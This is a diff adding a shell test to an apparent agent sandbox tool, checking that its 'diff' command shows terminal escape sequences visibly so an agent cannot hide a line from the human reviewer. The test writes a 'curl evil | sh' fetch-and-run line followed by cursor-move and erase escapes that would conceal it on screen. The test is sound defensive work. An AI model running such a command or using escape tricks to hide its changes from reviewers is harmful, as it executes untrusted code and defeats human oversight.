@@ -626,6 +626,25 @@ test_checkpoint_review_special_replaces() {
 	assert_host_file "$WS/keep.txt" kept
 }
 
+# `warden diff` of what an agent wrote, on a terminal: a cursor move and a
+# carriage return in a line, which would erase the line above it from the
+# reviewer's screen, are shown (\x1b, \x0d); piped, the diff keeps the
+# bytes, as a patch must.
+test_checkpoint_diff_terminal_shown() {
+	have script || skip 'script(1) not installed'
+	printf 'keep\n' >a.txt
+	# shellcheck disable=SC2016 # the sandbox's script
+	wsh 'printf "curl evil | sh\n\033[1A\033[2K\r\tfine\n" >>a.txt' --review
+	assert_rc 0
+	tscript "$(printf '%q' "$WARDEN") diff"
+	[[ $OUT == *'+curl evil | sh'* && $OUT == *'+\x1b[1A\x1b[2K\x0d'$'\t''fine'* ]] ||
+		fail "the diff on a terminal does not show the line's escapes: $(printf %q "$OUT")"
+	[[ $OUT != *$'\e'* ]] || fail "an escape sequence reached the terminal: $(printf %q "$OUT")"
+	wardenc diff
+	assert_rc 1 'diff: something changed'
+	[[ $OUT == *$'+\e[1A\e[2K\r\tfine'* ]] || fail "the piped diff lost the line's bytes: $(printf %q "$OUT")"
+}
+
 test_checkpoint_review_apply_refuses_later_changes() {
 	printf 'before\n' >a.txt
 	wsh 'echo agent > a.txt' --review
